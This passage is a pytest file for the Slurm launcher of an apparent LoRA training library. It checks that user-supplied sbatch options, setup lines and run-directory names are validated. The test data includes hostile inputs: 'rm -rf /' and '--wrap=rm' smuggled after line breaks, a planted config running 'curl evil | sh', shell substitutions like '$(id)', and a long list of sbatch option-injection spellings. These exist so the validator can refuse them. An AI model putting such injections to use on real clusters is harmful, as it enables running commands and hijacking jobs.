"""The Slurm launcher: options, the batch script and the run's state from what Slurm says (fast, with
Slurm's answers scripted), then real jobs on a real two-node Slurm cluster on this machine
(:mod:`slurm_cluster`: munged, slurmctld and one slurmd per node, started and stopped by this module).

On the cluster: two nodes × one process (fsdp=2) equal one local process; ``queued`` with Slurm's
reason while the cluster is full; a live tenant reaches both nodes' ranks at the same step; a stop from
the API is graceful; ``scancel`` and kill -9 of one node's worker are ``failed`` with the reason, and a
Slurm resume continues exactly. Whenever a call says the run ended (``wait()``, ``stop()``, ``kill()``,
``mlora-lab stop``), Slurm says the job ended and no process of it is left on either node.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import string
import subprocess
import time
from pathlib import Path

import pytest
import slurm_cluster
from conftest import task_files, two_tenants
from test_distributed import assert_same_adapters

import mlora_lab as ml
from mlora_lab.lab import cli
from mlora_lab.lab.launch import prepare_run, read_options
from mlora_lab.lab.slurm import cluster as slurm_module
from mlora_lab.lab.slurm import sbatch_args
from mlora_lab.lab.slurm.cluster import SlurmJob, SlurmOptions, render_script
from mlora_lab.lora import read_adapter
from mlora_lab.rundir import RunDir, atomic_write_json, checkpoint, control, read_status, update_status
from mlora_lab.rundir.status import JOB_MODULE, JobRef
from mlora_lab.text import brief

# every test here shares one local Slurm cluster: one pytest-xdist worker runs them all (--dist loadgroup)
pytestmark = pytest.mark.xdist_group("slurm")

# -- options and the batch script (no cluster) ------------------------------------------------------


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        (SlurmOptions(partition="gpu\n#SBATCH --wrap=rm"), "slurm.partition must be a Slurm name"),
        (SlurmOptions(partition="a b"), "slurm.partition must be a Slurm name"),
        (SlurmOptions(account="x;y"), "slurm.account must be a Slurm name"),
        (SlurmOptions(time="4 hours"), "slurm.time must be a Slurm time limit"),
        (SlurmOptions(time="04:00:00\nrm -rf /"), "slurm.time must be a Slurm time limit"),
        (SlurmOptions(gpus_per_node=-1), "slurm.gpus_per_node must be a whole number"),
        (SlurmOptions(gpus_per_node=True), "slurm.gpus_per_node must be a whole number"),
        (SlurmOptions(cpus_per_task="8"), "slurm.cpus_per_task must be a whole number"),
        (SlurmOptions(rdzv_port=80), "slurm.rdzv_port must be a port"),
        (SlurmOptions(extra=["--qos=high\nsrun evil"]), "line break or control character"),
        (SlurmOptions(extra=["constraint=a100"]), "is not an sbatch option"),
        (SlurmOptions(extra=["--nodes=3"]), "the node count comes from parallel.nnodes (= 2)"),
        (SlurmOptions(extra=["-N3"]), "the node count comes from parallel.nnodes"),
        (SlurmOptions(extra=["--ntasks-per-node=4"]), "the node count comes from parallel.nnodes"),
        (SlurmOptions(extra=["--output=/tmp/x"]), "--output, which the launcher sets itself"),
        (SlurmOptions(extra=["--requeue"]), "--requeue, which the launcher sets itself"),
        (SlurmOptions(extra=["-p", "gpu"]), "use SlurmOptions.partition"),
        (SlurmOptions(extra=["-c8"]), "use SlurmOptions.cpus_per_task"),
        (SlurmOptions(extra="--qos=high"), "slurm.extra must be a list of strings"),
        (SlurmOptions(setup=["module load cuda\nrm -rf /"]), "line break or control character"),
        (SlurmOptions(gpus_per_node=2), "parallel.nproc = 4 processes per node but slurm.gpus_per_node = 2"),
    ],
)
def test_bad_slurm_options_are_named(options, expected):
    problems = options.problems(nnodes=2, nproc=4)
    assert any(expected in p for p in problems), problems


def test_good_slurm_options_have_no_problem():
    options = SlurmOptions(
        partition="gpu",
        time="1-12:00:00",
        gpus_per_node=8,
        cpus_per_task=64,
        account="proj_1",
        extra=["--constraint=a100&80gb", "--qos=high", "--exclusive"],
        setup=["module load cuda/12.4", "source /shared/venv/bin/activate"],
    )
    assert options.problems(nnodes=4, nproc=8) == []
    for t in ("30", "30:00", "04:00:00", "2-0", "2-12:30", "UNLIMITED"):
        assert SlurmOptions(time=t).problems(1, 1) == [], t


def test_options_round_trip_and_refuse_unknown_keys():
    options = SlurmOptions(partition="gpu", extra=["--qos=high"])
    assert SlurmOptions.from_dict(json.loads(json.dumps(options.to_dict()))) == options
    with pytest.raises(ValueError, match="unknown Slurm options: nodes"):
        SlurmOptions.from_dict({"nodes": 2})


def test_the_batch_script_runs_one_agent_per_node_and_quotes_every_path(tmp_path):
    run_dir = tmp_path / "runs" / "r$(id)"
    assert slurm_module.run_dir_problem(run_dir) is None
    options = SlurmOptions(
        partition="gpu",
        time="01:00:00",
        gpus_per_node=4,
        cpus_per_task=16,
        extra=["--qos=high"],
        setup=["module load cuda"],
        python="/opt/py env/bin/python",
    )
    script = render_script(options, run_dir, nnodes=3, nproc=4, script=run_dir / "slurm.sbatch", resume=True)
    sbatch = [line.removeprefix("#SBATCH ") for line in script.splitlines() if line.startswith("#SBATCH")]
    assert sbatch == [
        "--job-name=mlora-r$(id)",
        "--nodes=3",
        "--ntasks-per-node=1",
        "--no-requeue",
        f"--output={run_dir}/logs/launcher.log",
        "--open-mode=append",
        f"--chdir={run_dir}",
        "--partition=gpu",
        "--time=01:00:00",
        "--cpus-per-task=16",
        "--gpus-per-node=4",
        "--qos=high",
    ]
    assert "module load cuda" in script
    assert "'/opt/py env/bin/python' -m mlora_lab.job.torchrun" in script  # (torch.distributed.run, gc off)
    assert '--nnodes "$SLURM_NNODES" --nproc-per-node 4' in script
    assert '--rdzv-backend c10d --rdzv-endpoint "$HEAD_ADDR:$RDZV_PORT"' in script
    assert script.rstrip().endswith(f"-m {JOB_MODULE} '{run_dir}' --resume")  # quoted: $(id) stays text
    for bad in ("my runs", "r%j", 'r"1', "r'1", "a\\b", "a\nb"):
        assert "must not contain whitespace, quotes" in slurm_module.run_dir_problem(tmp_path / bad)


def test_a_slurm_json_someone_else_can_write_is_not_trusted(tmp_path):
    run = RunDir(tmp_path / "r").create()
    atomic_write_json(run.slurm_options, SlurmOptions(setup=["echo mine"]).to_dict())
    assert read_options(run, "slurm").setup == ["echo mine"]
    run.slurm_options.chmod(0o666)
    with pytest.raises(ml.SpecError, match="not a file of yours that only you can write"):
        read_options(run, "slurm")
    run.slurm_options.unlink()
    (tmp_path / "planted.json").write_text(json.dumps({"setup": ["curl evil | sh"]}))
    run.slurm_options.symlink_to(tmp_path / "planted.json")
    with pytest.raises(ml.SpecError, match="not a file of yours"):
        read_options(run, "slurm")


def test_several_nodes_on_the_local_launcher_are_refused_naming_the_launchers(llama_path, tmp_path):
    spec = ml.JobSpec(
        base_model=llama_path,
        tenants=[],
        stay_up=True,
        parallel=ml.Parallel(nproc=1, nnodes=2, fsdp=2),
        output_dir=str(tmp_path / "r"),
    )
    with pytest.raises(ml.SpecError) as err:
        ml.launch(spec)
    assert "launcher='slurm'" in str(err.value) and "multinode.sh" in str(err.value)
    with pytest.raises(ml.SpecError, match="Slurm options were given, but the launcher is 'local'"):
        ml.launch(spec, slurm=SlurmOptions())
    assert not (tmp_path / "r").exists()


def test_slurm_launch_without_slurm_commands_creates_nothing(llama_path, tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    spec = ml.JobSpec(base_model=llama_path, tenants=[], stay_up=True, output_dir=str(tmp_path / "r"))
    with pytest.raises(ml.SpecError) as err:
        ml.launch(spec, launcher="slurm", slurm=SlurmOptions(time="forever", extra=["--nodes=4"]))
    text = str(err.value)
    assert "sbatch, scontrol, scancel" in text and "slurm.time" in text and "node count" in text
    assert not (tmp_path / "r").exists()


# -- extra: each entry read as sbatch reads the #SBATCH line it becomes ----------------------------

# sbatch's names of the options an extra entry may not give (written out here, apart from the module's
# own table): the launcher sets them, they change how sbatch answers it, or they are SlurmOptions fields.
LAUNCHER_OWNED = [
    *("nodes", "ntasks", "ntasks-per-node", "tasks-per-node", "ntasks-per-core", "ntasks-per-socket"),
    *("ntasks-per-gpu", "ntasks-per-tres", "output", "error", "open-mode", "chdir", "requeue", "no-requeue"),
    *("job-name", "wrap", "parsable", "test-only", "wait", "help", "usage", "version", "array", "clusters"),
    *("cluster", "partition", "time", "account", "cpus-per-task", "gpus-per-node", "gpus", "gpus-per-task"),
]

# (entry, what its refusal says): the cases, the shortest abbreviation sbatch 22.05 accepts of
# every launcher-owned option, exact names, short forms, bundled shorts, values after a space, unicode
# look-alikes, empty entries, and words sbatch reads otherwise than they look.
HOSTILE = [
    (
        "--qos=x --output=/elsewhere --chdir=/",
        ["holds 3 options (--qos, --output, --chdir)", "sets --output,"],
    ),
    ("--qos=x --output=/elsewhere --chdir=/", ["sets --chdir, which the launcher sets itself"]),
    (
        "--outp=/elsewhere",
        ["sets --output (sbatch reads '--outp' as --output), which the launcher sets itself"],
    ),
    ("--chd=/", ["sets --chdir (sbatch reads '--chd' as --chdir)"]),
    ("--requ", ["sets --requeue (sbatch reads '--requ' as --requeue)", "start it over from step 0"]),
    *[
        (entry, [f"(sbatch reads {entry.split('=')[0]!r} as --{name})"])
        for entry, name in [
            ("--ou=/x", "output"),
            ("--er=/x", "error"),
            ("--op=truncate", "open-mode"),
            ("--ch=/", "chdir"),
            ("--req", "requeue"),
            ("--no-r", "no-requeue"),
            ("--j=x", "job-name"),
            ("--wr=x", "wrap"),
            ("--pars", "parsable"),
            ("--te", "test-only"),
            ("--he", "help"),
            ("--usa", "usage"),
            ("--vers", "version"),
            ("--ar=1-4", "array"),
            ("--part=gpu", "partition"),
            ("--acco=a", "account"),
            ("--cpus-per-t=8", "cpus-per-task"),
            ("--gpus-per-n=8", "gpus-per-node"),
            ("--gpus-per-t=1", "gpus-per-task"),
            ("--ta=2", "ntasks-per-node"),
            ("--ntasks-per-n=2", "ntasks-per-node"),
            ("--ntasks-per-c=1", "ntasks-per-core"),
            ("--ntasks-per-s=1", "ntasks-per-socket"),
            ("--ntasks-per-g=1", "ntasks-per-gpu"),
            ("--ntasks-per-t=gres/gpu:1", "ntasks-per-tres"),
        ]
    ],
    ("--nodes=3", ["sets --nodes, but the node count comes from parallel.nnodes (= 2)"]),
    ("--ntasks=4", ["sets --ntasks, but the node count comes from parallel.nnodes"]),
    ("--tasks-per-node=2", ["sets --ntasks-per-node (sbatch reads '--tasks-per-node' as --ntasks-per-node)"]),
    ("--open-mode=truncate", ["sets --open-mode, which the launcher sets itself"]),
    ("--no-requeue", ["sets --no-requeue, which the launcher sets itself"]),
    ("--time=10", ["sets --time: use SlurmOptions.time instead"]),
    ("--gpus=8", ["sets --gpus: use SlurmOptions.gpus_per_node instead"]),
    ("--wait", ["sets --wait", "would not answer the launcher until the job ended"]),
    ("--clusters=other", ["sets --clusters", "follows the job on this cluster"]),
    ("--cluster=other", ["sets --cluster,"]),
    ("--help", ["sets --help", "submit nothing"]),
    # short forms, values attached or in the next word
    ("-N 3", ["sets --nodes (sbatch reads '-N' as --nodes), but the node count"]),
    ("-N3", ["sets --nodes (sbatch reads '-N' as --nodes)"]),
    ("-n4", ["sets --ntasks (sbatch reads '-n'"]),
    ("-o /x", ["sets --output (sbatch reads '-o' as --output)"]),
    ("-o/x", ["sets --output (sbatch reads '-o' as --output)"]),
    ("-e /x", ["sets --error (sbatch reads '-e' as --error)"]),
    ("-D /", ["sets --chdir (sbatch reads '-D' as --chdir)"]),
    ("-D/", ["sets --chdir (sbatch reads '-D' as --chdir)"]),
    ("-J x", ["sets --job-name (sbatch reads '-J'"]),
    ("-p gpu", ["sets --partition (sbatch reads '-p' as --partition): use SlurmOptions.partition"]),
    ("-t 10", ["use SlurmOptions.time"]),
    ("-A acct", ["use SlurmOptions.account"]),
    ("-c8", ["use SlurmOptions.cpus_per_task"]),
    ("-c 8", ["use SlurmOptions.cpus_per_task"]),
    ("-a 1-4", ["sets --array (sbatch reads '-a'", "several times at once"]),
    ("-W", ["sets --wait (sbatch reads '-W'"]),
    ("-M other", ["sets --clusters (sbatch reads '-M'"]),
    ("-G 8", ["sets --gpus (sbatch reads '-G'"]),
    ("-h", ["sets --help (sbatch reads '-h'"]),
    ("-V", ["sets --version (sbatch reads '-V'"]),
    # bundled short options
    ("-Ho/x", ["holds 2 options (-H, -o)", "sets --output (sbatch reads '-o' as --output)"]),
    ("-HOD/", ["holds 3 options (-H, -O, -D)", "sets --chdir (sbatch reads '-D'"]),
    ("-vJname", ["sets --job-name (sbatch reads '-J'"]),
    ("-QW", ["sets --wait (sbatch reads '-W'"]),
    ("-OsN2", ["holds 3 options", "sets --nodes (sbatch reads '-N'"]),
    # values after a space (no '=')
    ("--output /x", ["sets --output, which the launcher sets itself"]),
    ("--outp /x", ["sets --output (sbatch reads '--outp' as --output)"]),
    ("--chdir /", ["sets --chdir,"]),
    ("--nodes 3", ["sets --nodes, but the node count"]),
    ("--job-name x", ["sets --job-name,"]),
    ("--partition gpu", ["use SlurmOptions.partition"]),
    ("--account a", ["use SlurmOptions.account"]),
    ("--cpus-per-task 8", ["use SlurmOptions.cpus_per_task"]),
    # look-alikes of '-' and ' ' that sbatch does not read as such
    ("\u2014output=/x", ["U+2014, EM DASH", "write the option in ASCII"]),
    ("\u2013output=/x", ["U+2013, EN DASH"]),
    ("\u2212\u2212output=/x", ["U+2212, MINUS SIGN"]),
    ("\u2010\u2010output=/x", ["U+2010, HYPHEN"]),
    ("--qos=x\u2003--output=/y", ["U+2003, EM SPACE"]),
    ("\u00a0--qos=x", ["U+00A0, NO-BREAK SPACE"]),
    ("--qos=x\u200b", ["U+200B, ZERO WIDTH SPACE"]),
    ("--qos=high\u3000-o/x", ["U+3000, IDEOGRAPHIC SPACE"]),
    # empty entries
    ("", ["is empty: give one sbatch option per entry"]),
    (" ", ["is empty"]),
    ("    ", ["is empty"]),
    ("\t", ["line break or control character"]),
    # words sbatch reads otherwise than they look
    ("--qos", ["--qos needs a value in the same entry (--qos=VALUE)", "next #SBATCH line"]),
    ("-C", ["-C needs a value in the same entry"]),
    ("--qos=x #--output=/y", ["an unquoted '#' starts a comment", "sbatch would drop '#--output=/y'"]),
    ("--comment=a#b", ["an unquoted '#' starts a comment"]),
    ("--qos hetjob", ["'hetjob' is a heterogeneous-job separator", "--qos needs a value in the same entry"]),
    ("hetjob", ["heterogeneous-job separator"]),
    ("PackJob --qos=x", ["'PackJob' is a heterogeneous-job separator"]),
    (":--qos=x", ["a word starting with ':' is fatal to sbatch"]),
    ("--qos=x '' --output=/y", ["an empty word", "the words after it would be dropped"]),
    ("--comment='x", ["it has an unmatched ' (fatal to sbatch)"]),
    ('--comment="x', ['it has an unmatched " (fatal to sbatch)']),
    ("--comment=a\\ --output=/y", ["a backslash before a space does not join words", "sets --output,"]),
    ("--comment=x\\", ["it ends in a backslash"]),
    ("--c=x", ["--c is ambiguous to sbatch (it abbreviates --chdir, --cluster, "]),
    ("--no=x", ["--no is ambiguous to sbatch (it abbreviates --no-kill, --no-requeue, --nodefile"]),
    ("--=x", ["'--=x' names no option"]),
    ("--", ["'--' ends sbatch's options"]),
    ("-", ["'-' is not an sbatch option"]),
    ("qos=high", ["'qos=high' is not an sbatch option (options start with '-')"]),
    ("--exclusive foo", ["'foo' is not an sbatch option"]),
    ("--requeue=no", ["--requeue takes no value", "sets --requeue,"]),
    ("-f", ["sbatch has no option -f"]),
    ("--foo --output=/x", ["--foo is not an option of sbatch 22.05", "sets --output,"]),
]

# Options an entry may give: one each, its value after '=' or a space (quoted values stay one value).
ACCEPTED = [
    "--qos=high",
    "--mem=0",
    "--exclusive",
    "--constraint=a100",
    "-C a100",
    "--qos high",
    "-q high",
    "--mem 0",
    "--exclusive=user",
    "--exclusi",
    "--constraint=a100&80gb",
    "--gres=gpu:8",
    "--comment='a b'",
    '--comment="--output=/elsewhere --chdir=/"',
    "--comment --output=/elsewhere",
    "--comment=a\\#b",
    "-H",
    "--hold",
    "--nice=5",
    "--mail-type=END,FAIL",
    "--dependency=afterok:12",
    "--reserv=maint",
    "--time-min=10",
    "--signal=B:USR1@60",
    "  --qos=high  ",
]


@pytest.mark.parametrize(
    ("entry", "expected"), HOSTILE, ids=[f"{i}:{e!r}"[:60] for i, (e, _) in enumerate(HOSTILE)]
)
def test_an_extra_entry_is_read_as_sbatch_reads_it_and_refused_naming_why(entry, expected):
    problems = SlurmOptions(extra=["--qos=high", entry]).problems(nnodes=2, nproc=1)
    named = [p for p in problems if p.startswith(f"slurm.extra entry {brief(entry)}")]
    assert named and len(named) == len(problems), problems  # every problem names the entry, and only it
    for words in expected:
        assert any(words in p for p in named), (words, problems)


@pytest.mark.parametrize("entry", ACCEPTED)
def test_an_extra_entry_of_one_option_the_launcher_leaves_to_the_user_is_accepted(entry):
    assert SlurmOptions(extra=[entry]).problems(nnodes=2, nproc=1) == []


def test_every_abbreviation_and_short_form_of_a_launcher_owned_option_is_refused():
    """Every spelling sbatch reads as a launcher-owned option (each prefix that names it alone, its
    short letter, alone or bundled after a flag) is refused. The prefixes are those of the module's
    table, which test_the_option_table_is_sbatchs checks prefix by prefix against the installed sbatch."""
    checked = 0
    for name in LAUNCHER_OWNED:
        option = sbatch_args.OPTIONS[name]
        spellings = [
            "--" + name[:n] + "=1"
            for n in range(1, len(name) + 1)
            if isinstance(sbatch_args.resolve(name[:n]), sbatch_args.Option)
            and sbatch_args.resolve(name[:n]).canonical == option.canonical
        ]
        if option.short:
            spellings += [f"-{option.short}1", f"-{option.short} 1", f"-H{option.short}1"]
        assert spellings, name
        for spelled in spellings:
            problems = SlurmOptions(extra=[spelled]).problems(nnodes=2, nproc=1)
            assert any(f"sets --{option.canonical}" in p for p in problems), (spelled, problems)
            checked += 1
    assert checked > 100


def test_every_problem_of_every_entry_is_named_in_one_error(llama_path, tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    spec = ml.JobSpec(base_model=llama_path, tenants=[], stay_up=True, output_dir=str(tmp_path / "r"))
    extra = ["--qos=high", "--outp=/elsewhere", "--chd=/", "--requ", "-Ho/x", "", "\u2014output=/x", "--c=1"]
    with pytest.raises(ml.SpecError) as err:
        ml.launch(spec, launcher="slurm", slurm=SlurmOptions(extra=extra))
    text = str(err.value)
    for entry in extra[1:]:
        assert f"slurm.extra entry {brief(entry)}" in text, (entry, text)
    assert "--qos=high" not in text and not (tmp_path / "r").exists()
    argv = ["run", str(tmp_path / "job.json"), "--launcher", "slurm", "--sbatch-arg=--outp=/elsewhere"]
    spec.to_json(tmp_path / "job.json")
    assert cli.main(argv) == 2


def test_an_option_newer_than_sbatch_22_05_is_left_to_the_clusters_sbatch():
    """A long option sbatch 22.05 does not have (a newer Slurm's ``--segment``) is neither a
    launcher-owned option nor an abbreviation of one: the cluster's own ``sbatch --test-only`` at
    launch judges it. Alone in its entry only, since how sbatch reads a word after it is unknown."""
    assert SlurmOptions(extra=["--segment=4"]).problems(2, 1) == []
    assert SlurmOptions(extra=["--oom-kill-step"]).problems(2, 1) == []
    assert "whether '4' is its value is unknown" in SlurmOptions(extra=["--segment 4"]).problems(2, 1)[0]


def test_the_launchers_own_sbatch_lines_are_read_as_written(tmp_path):
    """Every #SBATCH line the launcher writes is one word to sbatch, the option it means: the run
    directory (in --output, --chdir and the job name) may hold shell characters, but not what
    sbatch's line reader treats specially (space, quotes, backslash, '#', '%')."""
    run_dir = tmp_path / "r$(id)&;|<>!*?[]{}~=:@,+x"
    assert slurm_module.run_dir_problem(run_dir) is None
    options = SlurmOptions(partition="gpu", time="1-0", cpus_per_task=4, gpus_per_node=2, account="a.b")
    for line in options.sbatch_lines(2, f"mlora-{run_dir.name}", run_dir / "logs" / "launcher.log", run_dir):
        reading = sbatch_args.read_line(line.removeprefix("#SBATCH "))
        assert reading.problems == [] and reading.words == [line.removeprefix("#SBATCH ")], line
        assert len(reading.given) == 1 and reading.given[0].option is not None, line
    for bad in ("runs#1", "a b", "r%j", "r'1", 'r"1', "a\\b"):
        assert "'#' or '%'" in slurm_module.run_dir_problem(tmp_path / bad / "r"), bad


# -- the same, asked of the installed sbatch (no cluster: its own reading, before it would submit) ---


@pytest.fixture(scope="module")
def sbatch_here(tmp_path_factory):
    """``sbatch_here(*args, script=None)``: the installed sbatch run offline (installed first if missing,
    as for the cluster): a client configuration naming a controller that refuses every connection, no
    SBATCH_* variables, and ``--test-only`` with a burst-buffer file that does not exist wherever a
    script is given, so sbatch stops before it would ask any controller."""
    why = slurm_cluster.install()
    if why is not None:
        if os.environ.get("CI"):
            pytest.fail(why)
        pytest.skip(why)
    root = tmp_path_factory.mktemp("sbatch")
    refuser = socket.socket()  # bound, never listening: sbatch's connection is refused at once
    refuser.bind(("127.0.0.1", 0))
    (root / "slurm.conf").write_text(
        f"ClusterName=offline\nSlurmctldHost=localhost(127.0.0.1)\nSlurmctldPort={refuser.getsockname()[1]}\n"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SBATCH_", "SLURM_"))}
    env["SLURM_CONF"] = str(root / "slurm.conf")
    made = iter(range(10**6))

    def run(*args: str, script: str | None = None, variables=None) -> subprocess.CompletedProcess:
        if script is not None:
            path = root / f"probe{next(made)}.sbatch"
            path.write_text(script)
            # --bbf of no file: sbatch stops right after listing the options it read (--verbose)
            args = ("--verbose", "--test-only", f"--bbf={root}/none", *args, str(path))
        return subprocess.run(
            [shutil.which("sbatch"), *args],
            env={**env, **(variables or {})},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=30,
        )

    yield run
    refuser.close()


OPTIONAL_VALUE = "(an option with an optional value)"


def sbatch_reads(sbatch_here, prefix: str) -> str | list[str] | None:
    """How the installed sbatch reads ``--prefix``, from glibc getopt's messages: the full name of the
    option it names, the names it could abbreviate (ambiguous), or None (no option). For an option
    with an optional value getopt names nothing: :data:`OPTIONAL_VALUE`."""
    err = sbatch_here("--" + prefix).stderr  # the last word: an option that needs a value says so
    if m := re.search(r"option '--[\w-]*' is ambiguous; possibilities:(.*)", err):
        return sorted(re.findall(r"'--([\w-]+)'", m.group(1)))
    if "unrecognized option" in err:
        return None
    if m := re.search(r"option '--([\w-]+)' requires an argument", err):
        return m.group(1)
    if m := re.search(r"option '--([\w-]+)' doesn't allow an argument", sbatch_here(f"--{prefix}=x").stderr):
        return m.group(1)
    return OPTIONAL_VALUE


def ours(prefix: str) -> str | list[str] | None:
    found = sbatch_args.resolve(prefix)
    if isinstance(found, sbatch_args.Option) and found.value == sbatch_args.OPTIONAL:
        return OPTIONAL_VALUE
    return found.name if isinstance(found, sbatch_args.Option) else found


def test_the_option_table_is_sbatchs(sbatch_here):
    """The module's table is the installed sbatch's: every option ``sbatch --help`` lists, with its short
    letter; every long option getopt knows (``--a`` ... ``--z`` list them all, or name the only one);
    every prefix of every name read alike (the same option, or ambiguous among the same names, or
    none); every short letter known alike, needing a value alike."""
    help_text = sbatch_here("--help").stdout
    listed = re.findall(r"^\s+(?:-(\w),?\s+)?--([a-z][\w-]*)", help_text, re.M)
    assert len(listed) > 80, help_text
    for short, name in listed:
        assert name in sbatch_args.OPTIONS, f"sbatch --help lists --{name}"
        assert sbatch_args.OPTIONS[name].short == (short or None), name

    known: set[str] = set()
    for letter in string.ascii_lowercase:
        read = sbatch_reads(sbatch_here, letter)
        known.update(read if isinstance(read, list) else [read] if isinstance(read, str) else [])
    assert OPTIONAL_VALUE not in known
    assert known == set(sbatch_args.OPTIONS), known ^ set(sbatch_args.OPTIONS)

    prefixes = sorted({name[:n] for name in sbatch_args.OPTIONS for n in range(1, len(name) + 1)})
    differ = {p: (sbatch_reads(sbatch_here, p), ours(p)) for p in prefixes}
    differ = {p: both for p, both in differ.items() if both[0] != both[1]}
    assert not differ, differ

    for letter in string.ascii_letters + string.digits:
        err = sbatch_here("-" + letter).stderr
        option = sbatch_args.SHORT.get(letter)
        assert ("invalid option" in err) == (option is None), (letter, err)
        needs = option is not None and option.value == sbatch_args.REQUIRED
        assert ("option requires an argument" in err) == needs, (letter, err)


def defined_options(sbatch_here, script: str, variables=None) -> dict[str, str]:
    """The options sbatch read from ``script`` (``sbatch --verbose`` lists them before it would submit),
    or AssertionError with sbatch's message if it refused the script first. ``variables``: added to
    sbatch's environment."""
    proc = sbatch_here(script=script, variables=variables)
    found = dict(re.findall(r"^sbatch: ([\w-]+)\s+: (.*)$", proc.stderr, re.M))
    assert "end of defined options" in proc.stderr, proc.stderr[-1000:]
    return {k: v for k, v in found.items() if k not in ("verbose", "test-only", "bbf")}


# What the launcher sets (sbatch's names for it): an accepted extra leaves each of them as it was.
LAUNCHERS_OWN = (
    *("job-name", "nodes", "ntasks", "ntasks-per-node", "no-requeue", "requeue", "output", "error"),
    *("open-mode", "chdir", "partition", "time", "account", "cpus-per-task", "array", "wait"),
)

# Entries refused above that sbatch reads as overriding the launcher's own options: what it then reads.
OVERRIDES = [
    ("--qos=x --output=/elsewhere --chdir=/", {"output": "/elsewhere", "chdir": "/", "qos": "x"}),
    ("--outp=/elsewhere", {"output": "/elsewhere"}),
    ("--chd=/", {"chdir": "/"}),
    ("--requ", {"requeue": "requeue"}),
    ("--ou /x", {"output": "/x"}),
    ("--er=/x", {"error": "/x"}),
    ("--op=truncate", {"open-mode": "t"}),
    ("--j=x", {"job-name": "x"}),
    ("--ar=1-4", {"array": "1-4"}),
    ("--part=gpu", {"partition": "gpu"}),
    ("--acco=a", {"account": "a"}),
    ("--cpus-per-t=8", {"cpus-per-task": "8"}),
    ("--ta=3", {"ntasks-per-node": "3"}),
    ("--tasks-per-node=3", {"ntasks-per-node": "3"}),
    ("--nodes 3", {"nodes": "3"}),
    ("-N3", {"nodes": "3"}),
    ("-n4", {"ntasks": "4"}),
    ("-o /x", {"output": "/x"}),
    ("-D/", {"chdir": "/"}),
    ("-J x", {"job-name": "x"}),
    ("-t 10", {"time": "00:10:00"}),
    ("-Ho/x", {"hold": "set", "output": "/x"}),
    ("-HOD/", {"chdir": "/"}),
    ("-QW", {"wait": "set"}),
    ("--comment=a\\ --output=/y", {"comment": "a", "output": "/y"}),
    ("--foo=1 --output=/x", None),  # sbatch 22.05 refuses the script: no such option
]


def launcher_script(extra: list[str]) -> str:
    """The batch script the launcher writes, with ``extra`` (not validated) after its own lines."""
    options = SlurmOptions(partition="debug", time="20", cpus_per_task=2, account="acct", extra=extra)
    return render_script(options, Path("/shared/runs/r1"), nnodes=2, nproc=1, script=Path("/s.sbatch"))


def test_sbatch_reads_each_accepted_entry_as_we_do_and_keeps_the_launchers_options(sbatch_here):
    base = defined_options(sbatch_here, launcher_script([]))
    assert base["output"] == "/shared/runs/r1/logs/launcher.log" and base["chdir"] == "/shared/runs/r1"
    assert base["job-name"] == "mlora-r1" and base["nodes"] == "2" and base["no-requeue"] == "no-requeue"
    for entry in ACCEPTED:
        got = defined_options(sbatch_here, launcher_script([entry]))
        assert {k: got.get(k) for k in LAUNCHERS_OWN} == {k: base.get(k) for k in LAUNCHERS_OWN}, entry
        for given in sbatch_args.read_line(entry).given:  # sbatch read the option we read, with its value
            assert given.option.name in got, (entry, got)
            if given.option.name in ("comment", "constraint", "qos", "reservation", "nice"):
                assert got[given.option.name] == given.value, (entry, got)


@pytest.mark.parametrize(("entry", "read"), OVERRIDES)
def test_sbatch_reads_the_refused_entries_as_overriding_the_launcher(sbatch_here, entry, read):
    """Why each refusal matters: the installed sbatch, given the script with the entry, reads what the
    refusal says (and the refusal names each launcher option it overrides)."""
    problems = SlurmOptions(extra=[entry]).problems(nnodes=2, nproc=1)
    assert problems
    if read is None:
        assert "unrecognized option" in sbatch_here(script=launcher_script([entry])).stderr
        return
    got = defined_options(sbatch_here, launcher_script([entry]))
    assert {k: got.get(k) for k in read} == read, got
    for name in set(read) & set(LAUNCHERS_OWN):
        assert any(f"sets --{name}" in p for p in problems), (name, problems)


def test_sbatch_input_variables_cannot_override_the_launchers_options(sbatch_here):
    """sbatch reads its SBATCH_* variables after the script: exported in the notebook's shell, they
    would override the launcher's lines (SBATCH_REQUEUE=1 would requeue a run from step 0). The
    launcher runs sbatch without those of the options the script gives or it owns, and keeps the rest."""
    script = launcher_script(["--qos=high"])
    base = defined_options(sbatch_here, script)
    hostile = {
        "SBATCH_REQUEUE": "1",
        "SBATCH_OUTPUT": "/elsewhere",
        "SBATCH_ERROR": "/elsewhere",
        "SBATCH_OPEN_MODE": "truncate",
        "SBATCH_JOB_NAME": "x",
        "SBATCH_ARRAY_INX": "1-3",
        "SBATCH_WAIT": "1",
        "SBATCH_TIMELIMIT": "5",
        "SBATCH_PARTITION": "other",
        "SBATCH_ACCOUNT": "other",
        "SBATCH_QOS": "low",
    }
    raw = defined_options(sbatch_here, script, hostile)
    for variable in hostile:
        name = sbatch_args.variable_option(variable)
        assert raw.get(name) not in (None, base.get(name)), (variable, raw)
    kept = {**hostile, "SBATCH_MEM_PER_NODE": "1000", "SBATCH_COMMENT": "kept"}
    got = defined_options(sbatch_here, script, slurm_module.sbatch_environment(script, kept))
    assert {k: got.get(k) for k in LAUNCHERS_OWN} == {k: base.get(k) for k in LAUNCHERS_OWN}, got
    assert got["qos"] == "high" and "mem" in got  # the script's qos; a memory default it leaves open
    assert slurm_module.sbatch_environment(script, kept) == {
        "SBATCH_MEM_PER_NODE": "1000",
        "SBATCH_COMMENT": "kept",
    }


def test_sbatch_drops_what_a_comment_or_an_empty_word_hides(sbatch_here):
    """The entries refused for a '#', an empty word or 'hetjob' are read by sbatch as the refusals say."""
    got = defined_options(sbatch_here, launcher_script(["--comment=a#b --output=/y"]))
    assert got["comment"] == "a" and got["output"] == "/shared/runs/r1/logs/launcher.log"
    got = defined_options(sbatch_here, launcher_script(["--comment=x '' --output=/y"]))
    assert got["comment"] == "x" and got["output"] == "/shared/runs/r1/logs/launcher.log"
    got = defined_options(sbatch_here, launcher_script(["--comment hetjob", "--output=/y"]))
    assert got["comment"] == "--output=/y"  # the next line's word became the value


def test_sbatch_reads_the_launchers_lines_for_a_run_directory_full_of_shell_characters(sbatch_here, tmp_path):
    run_dir = tmp_path / "r$(id)&;|<>!*?[]{}~=:@,+x"
